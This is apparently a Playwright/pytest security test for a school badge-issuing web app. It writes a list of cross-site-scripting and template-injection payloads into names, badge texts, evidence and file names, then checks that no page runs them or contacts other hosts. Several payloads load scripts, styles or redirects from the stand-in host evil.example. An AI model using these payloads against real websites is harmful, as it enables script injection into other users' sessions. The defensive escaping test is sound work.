"""Row 59: hostile strings through API and forms, then a browser on every page that shows them."""

from collections.abc import Iterator
from dataclasses import dataclass, field
from io import BytesIO
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Dialog, Page, Request

from issuer.access import Role
from tests.browser.conftest import served
from tests.schooling import SAFETY, School, found_school, open_school
from tests.visiting import come_in

pytestmark = pytest.mark.browser

#: Each runs, frames, calls home or leaves its element where one place forgets to escape.
STRINGS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg/onload=alert(3)>",
    "</title><script src=//evil.example/x.js></script>",
    "<iframe srcdoc='<script>alert(4)</script>'></iframe>",
    "[click](javascript:alert(5)) ![x](https://evil.example/t.png)",
    "<a href='jav&#x0A;ascript:alert(6)'>x</a>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "{{ 7*7 }}{% raw %}${7*7}",
    "<math><mtext><table><mglyph><style><img src onerror=alert(7)>",
    '" autofocus onfocus=alert(8) x="',
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;//evil.example'>",
)
ALL = " ".join(STRINGS)


@dataclass(kw_only=True)
class Seen:
    """What a browser did that it should not have done."""

    host: str
    dialogs: list[str] = field(default_factory=list)
    refusals: list[str] = field(default_factory=list)
    strangers: list[str] = field(default_factory=list)

    def watch(self, page: Page) -> None:
        """Note dialogs, violations of the policy, and requests to other hosts."""
        page.on("dialog", self._on_dialog)
        page.on("console", self._on_console)
        page.on("request", self._on_request)

    def _on_dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _on_console(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "TrustedHTML" in message.text:
            self.refusals.append(message.text[:200])

    def _on_request(self, request: Request) -> None:
        if not request.url.startswith((self.host, "data:")):
            self.strangers.append(request.url)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[School]:
    """Found a school and write each string into each text that a page shows."""
    folder: Path = tmp_path_factory.mktemp("hostile") / "data"
    found_school(folder)
    school = open_school(folder)
    _write_people(school)
    _write_badge(school)
    _write_work(school)
    _publish_page(school)
    yield school
    school.house.close()


def _write_people(school: School) -> None:
    for number, text in enumerate(STRINGS):
        wish = {"name": text[:80], "roles": ["learner"], "birth_date": "1990-05-01"}
        answer = school.call("admin", "POST", "/api/v1/people", json=wish)
        assert answer.status_code in {201, 400, 422}
        if answer.status_code == 201:
            school.ids[f"hostile {number}"] = answer.get_json()["id"]
    school.call("admin", "POST", "/api/v1/units", json={"slug": "u", "name": STRINGS[0]})
    browser = come_in(school, "registrar", Role.REGISTRAR)
    browser.get("/people")
    browser.post("/people", {"name": STRINGS[1], "role": "learner", "birth_date": "1990-05-01"})


def _write_badge(school: School) -> None:
    document = {
        **SAFETY,
        "badge": "hostile-talk",
        "title": STRINGS[1],
        "summary": ALL,
        "criteria": {
            "id": "seen",
            "title": STRINGS[2],
            "signoff": {"role": "teacher", "statement": ALL[:300]},
        },
    }
    draft = school.made("teacher", "/api/v1/badges", {"document": document})
    school.ids["hostile"] = draft["id"]
    school.made("teacher", f"/api/v1/badges/{draft['id']}/propose")
    published = school.made("admin", f"/api/v1/badges/{draft['id']}/publish")
    school.ids["hostile path"] = f"/achievements/{published['public_slug']}/v1"


def _write_work(school: School) -> None:
    submission = school.made("osprey", "/api/v1/submissions", {"badge": school.ids["hostile"]})
    place = f"/api/v1/submissions/{submission['id']}"
    for text in STRINGS:
        body = {"kind": "text", "title": text[:150], "text": text}
        school.call("osprey", "POST", f"{place}/evidence", json=body)
    form = {"file": (BytesIO(ALL.encode()), '"><script>alert(9)<.txt'), "title": STRINGS[3]}
    school.call(
        "osprey", "POST", f"{place}/evidence", data=form, content_type="multipart/form-data"
    )
    school.made("osprey", f"{place}/submit", {"authorship": ALL[:200]})
    school.made("teacher", f"{place}/triage")
    school.made("teacher", f"{place}/signoffs", {"node": "seen", "approve": True})
    headers = {"Idempotency-Key": "hostile"}
    approved = school.made("approver", f"{place}/approve", headers=headers)
    school.ids["hostile badge"] = approved["credential"].rsplit("/", 1)[-1]


def _publish_page(school: School) -> None:
    place = f"/api/v1/people/{school.ids['osprey']}/consents"
    school.made("osprey", place, {"purpose": "publish-page"})
    for text in STRINGS:
        wish = {"purpose": "name-on-page", "display_name": text[:80]}
        if school.call("osprey", "POST", place, json=wish).status_code == 201:
            break
    badge = school.ids["hostile badge"]
    place = f"/api/v1/credentials/{badge}/visibility"
    school.call("osprey", "PUT", place, json={"visibility": "public"})


def _pages(school: School) -> list[str]:
    people = [
        f"/people/{school.ids[name]}"
        for name in school.ids
        if name.startswith("hostile ") and name.removeprefix("hostile ").isdecimal()
    ]
    badge, path = school.ids["hostile badge"], school.ids["hostile path"]
    quoted = "%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"
    return [
        "/", path, f"{path}/criteria", f"/badges/{badge}", "/issuers/riverbend", "/api/docs",
        f"/credentials/{badge}.svg", f"{path}/image.svg",
        f"/verify?url={school.ids['hostile badge']}{quoted}", f"/sign-in?next={quoted}",
        f"/verify?url=http://localhost:8000/badges/{badge}", f"/join/{quoted}",
        f"/invitations/{quoted}", f"/nowhere/{quoted}", "/home", "/account", "/people", *people,
    ]  # fmt: skip


def test_t59_no_page_runs_what_people_wrote(hostile: School, browser: Browser) -> None:
    """T59: 0 dialogs, 0 violations, 0 requests to other hosts, on every page that shows it."""
    secret = come_in(hostile, "admin").secret
    with served(hostile.app) as address:
        seen = Seen(host=address)
        context: BrowserContext = browser.new_context()
        context.add_cookies([{"name": "issuer", "value": secret, "url": address}])
        page = context.new_page()
        seen.watch(page)
        shown = ""
        for path in _pages(hostile):
            answer = page.goto(address + path)
            assert answer is not None
            assert answer.status < 500, path
            shown += page.content()
        context.close()

    assert ([], [], []) == (seen.dialogs, seen.refusals, seen.strangers)
    # The strings did reach the pages, as text.
    assert "&lt;img src=x onerror=alert(2)&gt;" in shown
    assert "49$" not in shown


def test_a_page_that_forgets_to_escape_would_be_seen(browser: Browser) -> None:
    """The watch above can fail: one page without escaping and policy trips all of it."""
    seen = Seen(host="http://127.0.0.1:1")
    page = browser.new_page()
    seen.watch(page)
    page.set_content(
        "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'\">"
        "<script>alert(1)</script><img src='https://evil.example/t.png'>"
    )
    page.close()
    assert ["1"] == seen.dialogs
    assert seen.refusals
